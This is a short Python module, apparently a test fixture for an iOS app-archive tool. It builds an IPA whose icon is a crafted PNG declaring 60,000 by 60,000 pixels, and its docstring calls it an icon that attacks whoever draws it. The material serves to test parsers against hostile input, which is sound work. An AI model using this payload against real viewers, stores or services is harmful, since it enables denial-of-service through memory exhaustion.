"""An icon that attacks whoever draws it."""
import plistlib
import struct
import zlib

from .archive import APP, IDENTITY, ipa

def huge_icon():
    def chunk(kind, data):
        crc = zlib.crc32(kind + data)
        return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', crc)

    side = 60_000
    png = b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', side, side, 8, 6, 0, 0, 0))
    png += chunk(b'IDAT', zlib.compress(b'\0' * (1 + 4 * side), 9)) + chunk(b'IEND', b'')
    icons = {'CFBundleIcons': {'CFBundlePrimaryIcon': {'CFBundleIconFiles': ['AppIcon60x60']}}}
    archive = ipa(plistlib.dumps({**IDENTITY, **icons}))
    archive.add(APP + 'AppIcon60x60@2x.png', png)
    return archive.bytes()
